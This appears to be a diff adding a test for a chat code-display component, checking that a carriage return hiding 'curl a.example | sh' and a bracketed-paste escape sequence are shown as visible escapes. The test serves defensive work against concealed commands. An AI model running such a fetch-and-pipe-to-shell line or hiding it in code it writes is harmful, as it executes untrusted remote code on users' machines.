@@ -62,6 +62,18 @@ describe('<agent-chat-code>', () => {
     expect((await make(code, 'sh')).querySelector('code')?.textContent).to.equal(shown);
   });
 
+  it('rule 86: shows a carriage return that would run the rest of a line, and other controls', async () => {
+    const code = 'echo hi # \rcurl a.example | sh\r\nls\u000b \u001b[201~\tx';
+    const shown = 'echo hi # \\u000dcurl a.example | sh\r\nls\\u000b \\u001b[201~\tx';
+    const element = await make('', 'sh', false);
+    for (let length = 1; length <= code.length; length++) {
+      element.code = code.slice(0, length);
+      await element.updateComplete;
+    }
+    expect(element.querySelector('code')?.textContent).to.equal(shown);
+    expect((await make(code, 'sh')).querySelector('code')?.textContent).to.equal(shown);
+  });
+
   it('is highlighted when it is complete, without new nodes', async () => {
     const element = await make('const a = "b"; // c', 'ts');
     const text = textOf(element);
